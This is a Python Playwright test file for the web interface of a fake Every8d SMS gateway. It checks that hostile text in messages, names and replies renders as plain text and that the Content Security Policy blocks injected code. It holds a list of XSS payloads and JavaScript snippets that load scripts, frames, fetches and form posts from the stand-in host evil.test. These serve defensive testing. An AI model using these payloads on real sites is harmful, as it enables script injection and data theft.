"""Hostile input: in an SMS, a name or a reply, it is shown as text and never run."""

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from fake_every8d import FakeEvery8d
from fake_every8d.gateway import Recipient
from tests.page.conftest import Open
from tests.receiver import refused_url
from tests.web.serving import call

HOSTILE = [
    "<script>window.ran = true</script>",
    "<img src=x onerror='window.ran = true'>",
    "<svg onload='window.ran = true'></svg>",
    "</bdi></p><iframe srcdoc='<script>parent.ran = true</script>'></iframe>",
    "javascript:window.ran=true//https://javascript:ran",
    "\"'`><style>*{display:none}</style>",
    "${window.ran = true} {{constructor.constructor('window.ran = true')()}}",
    "&lt;b&gt; &amp;amp; &#60;script&#62;",
    "<!-- --><![CDATA[ ]]>",
    "{\"type\":\"script\",\"props\":{\"dangerouslySetInnerHTML\":{\"__html\":\"x\"}}}",
    "\u202eevil\u2066 \u2067\u2069\u200f\u061c",
    "👩‍👩‍👧‍👦🏴‍☠️ \U0001f468\u200d\U0001f4bb é́́́ ﷽",
    "__proto__",
]  # fmt: skip


def shows(page: Page, place: str, text: str) -> None:
    """The text stands there as it is, white space apart, and nothing of it has become markup."""
    expect(page.locator(place).get_by_text(text, exact=True).first).to_be_attached()
    assert page.evaluate("window.ran") is None
    assert page.locator("iframe, main img, script:not([src]), style").count() == 0


@pytest.mark.parametrize("text", HOSTILE)
def test_it_is_text_wherever_it_shows(fake: FakeEvery8d, open: Open, text: str) -> None:
    """As content, subject, name, address, record number, batch's account, and as a reply."""
    fake.add_account(text, "secret")
    with refused_url() as url:
        fake.update_account(text, report_url=url)
        fake.clock.freeze()
        fake.gateway.platform.send_param_sms(
            fake.gateway.platform.open_session(text, "secret"),
            text,
            [Recipient("0912345678", text, text, text, "", text), Recipient(text, "to it")],
            "",
        )
        fake.clock.advance(seconds=1)
        fake.reply("0912345678", text)
        page = open("#/phone/+886912345678")
        page.get_by_role("button", name="Details").click()
        expect(page.locator(".fields")).to_contain_text("Status reports")
        shows(page, ".message:not(.reply) .bubble", text)
        shows(page, ".reply .bubble", text)
        shows(page, ".meta .subject", text)
        shows(page, ".fields", text)
        shows(page, ".conversation > header", text[:50])  # as long as a NAME may be (S7)
        shows(page, ".phone .name", text[:50])
        shows(page, ".meta .sender", text)

        # The number that it was sent to, and a link to that.
        page.locator(".phone", has_text="to it").click()
        shows(page, ".conversation h1", text)
        expect(page.locator(".bubble")).to_have_text("to it")

        page.goto(f"{fake.url}/#/accounts")
        shows(page, ".account h2", text)
        page.goto(f"{fake.url}/#/reports")
        expect(page.locator(".report").first).to_be_visible()
        shows(page, ".report", text)
        page.locator(".report .unfold").first.click()
        expect(page.locator(".attempts")).to_be_visible()
        assert page.evaluate("window.ran") is None


@pytest.mark.parametrize("text", HOSTILE[:8])
def test_it_is_text_in_the_journal(fake: FakeEvery8d, open: Open, text: str) -> None:
    inside = text.replace("&", "&amp;").replace("<", "&lt;")
    call(fake.url, "getConnection", userID=inside)
    fake.add_failure("getCredit", "result", result=text)
    page = open("#/failures")
    shows(page, ".failures code", text)
    call(fake.url, "getCredit", sessionKey=inside)
    page.goto(f"{fake.url}/#/requests/2")
    expect(page.locator(".xml")).to_have_count(2)
    expect(page.get_by_role("heading", name="getCredit")).to_be_visible()
    assert page.evaluate("window.ran") is None
    assert page.locator("iframe, main img, script:not([src]), style").count() == 0


def test_error_is_shown_as_text(fake: FakeEvery8d, open: Open) -> None:
    page = open("#/accounts")
    page.get_by_label("User ID").fill("demo")
    page.get_by_label("Report URL").fill(HOSTILE[1])
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("alert")).to_contain_text("must begin with http")
    assert page.evaluate("window.ran") is None


def test_a_bidi_override_ends_where_its_text_ends(fake: FakeEvery8d, open: Open) -> None:
    session_key = fake.gateway.platform.open_session("demo", "demo")
    fake.gateway.platform.send_sms(session_key, "\u202e", "abc \u202e 123", "0912345678", "")
    page = open("#/phone/+886912345678")
    expect(page.locator(".bubble bdi")).to_have_css("unicode-bidi", "isolate")
    # What comes after them on the same line still runs from left to right.
    left = "e => e.getBoundingClientRect().left"
    status, subject = page.locator(".facts .status, .facts .subject").all()
    assert status.evaluate(left) < subject.evaluate(left)


def test_10000_characters_are_shown_when_asked_for(fake: FakeEvery8d, open: Open) -> None:
    text = "漢" * 4_999 + "\n" + "x" * 5_000
    session_key = fake.gateway.platform.open_session("demo", "demo")
    fake.gateway.platform.send_sms(session_key, "", text, "0912345678", "")
    page = open("#/phone/+886912345678")
    page.get_by_role("button", name="Show all 10000 characters").click()
    expect(page.locator(".bubble")).to_have_text(text)
    width = page.locator(".bubble").evaluate("e => [e.scrollWidth, e.clientWidth]")
    assert width[0] <= width[1]


ATTACKS: dict[str, tuple[str, str]] = {
    "inline script": (
        "script-src-elem",
        "s = document.createElement('script'); s.textContent = 'window.ran = true';"
        "document.body.append(s)",
    ),
    "script from elsewhere": (
        "script-src-elem",
        "s = document.createElement('script'); s.src = 'https://evil.test/x.js';"
        "document.body.append(s)",
    ),
    "event handler": (
        "script-src-attr",
        "document.body.insertAdjacentHTML('beforeend', '<b onclick=\"window.ran = true\">x</b>');"
        "document.body.lastElementChild.click()",
    ),
    "javascript: address": (
        "script-src-elem",
        "a = document.createElement('a'); a.href = 'javascript:window.ran = true';"
        "document.body.append(a); a.click()",
    ),
    "eval": ("script-src", "setTimeout('window.ran = true')"),
    "inline style": (
        "style-src-elem",
        "s = document.createElement('style'); s.textContent = 'body { display: none }';"
        "document.body.append(s)",
    ),
    "style attribute": (
        "style-src-attr",
        "document.body.insertAdjacentHTML('beforeend', '<b style=\"color: red\">x</b>')",
    ),
    "image from elsewhere": ("img-src", "new Image().src = 'https://evil.test/x.png'"),
    "request to elsewhere": ("connect-src", "fetch('https://evil.test/').catch(() => {})"),
    "frame": (
        "frame-src",
        "f = document.createElement('iframe'); f.src = 'https://evil.test/';"
        "document.body.append(f)",
    ),
    "base": (
        "base-uri",
        "b = document.createElement('base'); b.href = 'https://evil.test/';"
        "document.head.append(b)",
    ),
    "form": (
        "form-action",
        "f = document.createElement('form'); f.action = 'https://evil.test/';"
        "document.body.append(f); f.submit()",
    ),
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_content_security_policy_bites(
    fake: FakeEvery8d, browser: Any, attack: str, bare: Callable[[], Page]
) -> None:
    """Were there a hole in the page, what comes through it would still not run."""
    directive, code = ATTACKS[attack]
    page = bare()
    page.goto(fake.url)
    # As a script of the page's own would do it, so that it comes under the policy.
    violated = page.evaluate(
        f"""new Promise((resolve) => {{
            addEventListener("securitypolicyviolation", (event) => resolve(event));
            let a, b, f, s;
            {code};
        }}).then((event) => [event.effectiveDirective, event.disposition])"""
    )
    assert violated == [directive, "enforce"]
    assert page.evaluate("window.ran") is None


@pytest.fixture
def bare(browser: Any) -> Any:
    """A page whose console may say what it likes."""
    context = browser.new_context()
    yield context.new_page
    context.close()
